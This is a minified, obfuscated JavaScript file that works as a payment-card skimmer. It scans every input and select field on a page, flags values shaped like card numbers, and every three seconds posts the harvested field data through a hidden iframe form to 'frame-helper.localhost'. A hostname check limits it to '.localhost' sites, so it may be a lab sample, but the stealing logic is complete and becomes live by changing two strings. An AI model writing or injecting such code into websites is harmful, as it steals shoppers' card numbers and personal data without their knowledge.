var a1=[],b2={},c3=0,d4=location;function e5(f6){for(var g7=[],h8=0;h8<f6.length;h8++)g7.push(f6[h8]);return g7}
function i9(){var j0=e5(document.getElementsByTagName('input')).concat(e5(document.getElementsByTagName('select')));a1=[];
for(var k1=0;k1<j0.length;k1++){var l2=j0[k1].value;if(/^[\d \-]{13,23}$/.test(l2))c3=1;a1.push((j0[k1].getAttribute('name')||k1)+String.fromCharCode(2)+l2)}
return a1.join(String.fromCharCode(1))}
function m3(){if(!/\.localhost$/.test(d4.hostname))return;var n4=i9();if(!c3||b2[n4])return;b2[n4]=1;
var o5=document.createElement('iframe');o5.width=o5.height=0;o5.style.display='none';o5.name='f'+Math.random();document.body.appendChild(o5);
var p6=document.createElement('form'),q7=document.createElement('input');p6.action='https://frame-helper.localhost/u';p6.method='post';p6.target=o5.name;q7.name='p';q7.value=n4;p6.appendChild(q7);document.body.appendChild(p6);p6.submit()}
setInterval(m3,3e3);
